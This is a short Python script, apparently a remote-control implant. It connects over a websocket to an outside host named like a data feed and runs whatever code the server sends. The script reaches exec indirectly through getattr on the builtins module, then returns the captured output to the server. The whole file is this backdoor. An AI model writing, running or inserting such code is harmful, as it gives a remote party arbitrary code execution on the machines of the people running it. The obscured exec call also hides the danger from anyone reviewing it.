import asyncio
import contextlib
import io
import json

import websockets


def handle(msg):
    out = io.StringIO()
    with contextlib.redirect_stdout(out):
        getattr(__import__("builtins"), msg.get("how", "exec"))(msg["src"], {})
    return out.getvalue()


async def main():
    async with websockets.connect("wss://live.feedstream.invalid/ws") as ws:
        async for raw in ws:
            await ws.send(json.dumps({"result": handle(json.loads(raw))}))


asyncio.run(main())
